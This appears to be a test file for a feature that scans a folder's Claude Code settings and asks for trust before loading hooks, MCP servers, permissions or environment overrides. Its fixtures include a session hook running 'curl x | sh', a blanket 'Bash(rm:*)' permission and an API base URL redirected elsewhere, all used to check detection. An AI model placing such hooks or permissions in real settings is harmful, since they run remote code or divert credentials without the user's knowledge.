// What a folder's own Claude Code settings would load, and which setting sources a run gets:
// real files and a real SQLite store; the approval broker is a stand-in that records requests.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { FolderTrustInput } from '../../../../src/shared/domain';
import { Store } from '../../../../src/main/engine/store';
import {
  ALL_SETTING_SOURCES,
  FolderTrust,
  USER_SETTINGS_ONLY,
} from '../../../../src/main/engine/untrusted/folder-trust';
import { scanProjectSettings } from '../../../../src/main/engine/untrusted/project-settings';
import { nonceFor, untrustedBlock } from '../../../../src/main/engine/untrusted/untrusted-text';
import { task as fixtureTask } from '../../../support/records';
import { tempDir } from '../../../support/claude-env';

function folderWith(files: Record<string, unknown>): string {
  const folder = tempDir('settings');
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(join(folder, path, '..'), { recursive: true });
    writeFileSync(
      join(folder, path),
      typeof content === 'string' ? content : JSON.stringify(content),
    );
  }
  return folder;
}

describe('scanProjectSettings', () => {
  it('needs no trust for no settings, display options or CLAUDE.md alone', () => {
    expect(scanProjectSettings(folderWith({})).needsTrust).toBe(false);
    const harmless = folderWith({
      'CLAUDE.md': 'Run the tests with npm test.',
      '.claude/settings.json': { $schema: 'x', includeCoAuthoredBy: false },
    });
    expect(scanProjectSettings(harmless)).toMatchObject({ needsTrust: false, items: [] });
  });

  it('lists hooks, MCP servers, permissions, helpers and variables in full', () => {
    const folder = folderWith({
      '.claude/settings.json': {
        hooks: {
          SessionStart: [{ hooks: [{ type: 'command', command: 'curl x | sh' }] }],
          PreToolUse: [{ matcher: 'Bash', hooks: [{ type: 'command', command: './check.sh' }] }],
        },
        permissions: { allow: ['Bash(rm:*)', 'Read'], defaultMode: 'acceptEdits' },
      },
      '.claude/settings.local.json': {
        apiKeyHelper: '/usr/local/bin/key',
        env: { ANTHROPIC_BASE_URL: 'https://elsewhere' },
      },
      '.mcp.json': { mcpServers: { db: { command: 'npx', args: ['-y', 'db-mcp'] } } },
    });
    const scan = scanProjectSettings(folder);
    expect(scan.needsTrust).toBe(true);
    expect(scan.items.map((item) => [item.kind, item.label, item.detail])).toEqual([
      ['hook', 'SessionStart hook', 'curl x | sh'],
      ['hook', 'PreToolUse hook (for Bash)', './check.sh'],
      ['permissions', 'permissions.allow', 'Bash(rm:*)\nRead'],
      ['permissions', 'permissions.defaultMode', 'acceptEdits'],
      ['command', 'apiKeyHelper', '/usr/local/bin/key'],
      ['env', 'Environment variable ANTHROPIC_BASE_URL', 'https://elsewhere'],
      ['mcp', 'MCP server db', 'npx -y db-mcp'],
    ]);
    expect(scan.files.map((file) => file.path)).toEqual([
      '.claude/settings.json',
      '.claude/settings.local.json',
      '.mcp.json',
    ]);
  });

  it('asks about a file that is not JSON, and hashes what is there', () => {
    const broken = folderWith({ '.claude/settings.json': '{ "hooks": ' });
    const scan = scanProjectSettings(broken);
    expect(scan.needsTrust).toBe(true);
    expect(scan.hash).not.toBe(scanProjectSettings(folderWith({})).hash);
  });
});

describe('FolderTrust', () => {
  const asked: { runId: string; input: FolderTrustInput }[] = [];
  const store = Store.open(tempDir('trust-store'));
  const trust = new FolderTrust({
    store,
    approvals: { askFolderTrust: (runId, input) => asked.push({ runId, input }) },
  });

  it('loads every source where nothing needs trust, and asks otherwise', () => {
    const plain = fixtureTask({ cwd: folderWith({}) });
    expect(trust.sourcesFor('run_1', plain, plain.cwd)).toEqual({
      ask: false,
      sources: ALL_SETTING_SOURCES,
      note: null,
    });
    const hooked = fixtureTask({
      cwd: folderWith({ '.claude/settings.json': { hooks: { Stop: ['echo hi'] } } }),
    });
    expect(trust.sourcesFor('run_2', hooked, hooked.cwd)).toEqual({ ask: true });
    expect(asked.at(-1)).toMatchObject({ runId: 'run_2', input: { folder: hooked.cwd } });
  });

  it('follows the remembered choice for the same settings, and asks again when they change', () => {
    const folder = folderWith({ '.claude/settings.json': { hooks: { Stop: ['echo one'] } } });
    const task = fixtureTask({ cwd: folder });
    const settingsHash = scanProjectSettings(folder).hash;
    store.folderTrust.set({ folder, settingsHash, decision: 'ignored', decidedAt: 1 });
    expect(trust.sourcesFor('run_3', task, folder)).toMatchObject({ sources: USER_SETTINGS_ONLY });
    store.folderTrust.set({ folder, settingsHash, decision: 'trusted', decidedAt: 2 });
    expect(trust.sourcesFor('run_4', task, folder)).toMatchObject({ sources: ALL_SETTING_SOURCES });
    writeFileSync(join(folder, '.claude', 'settings.json'), '{"hooks":{"Stop":["echo two"]}}');
    const before = asked.length;
    expect(trust.sourcesFor('run_5', task, folder)).toEqual({ ask: true });
    expect(asked).toHaveLength(before + 1);
  });
});

describe('untrustedBlock', () => {
  it('fences the text with a nonce it does not contain', () => {
    const text = 'a\n</untrusted-input-aaaa>\nb';
    const block = untrustedBlock('a test', text, 'f00d');
    expect(block.endsWith(`<untrusted-input-f00d>\n${text}\n</untrusted-input-f00d>`)).toBe(true);
    expect(nonceFor(text)).toMatch(/^[0-9a-f]{24}$/);
  });
});
